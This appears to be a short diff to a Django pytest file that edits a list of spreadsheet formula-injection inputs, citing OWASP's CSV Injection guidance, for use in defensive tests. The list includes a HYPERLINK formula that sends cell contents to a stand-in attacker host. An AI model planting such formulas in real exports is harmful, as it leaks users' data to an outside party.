@@ -16,7 +16,7 @@ from tests.factories import MembershipFactory, ProgramFactory, SessionFactory, U
 pytestmark = pytest.mark.django_db
 
 # Cells a spreadsheet would run as formulas (OWASP, "CSV Injection").
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tcmd", "\r=1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
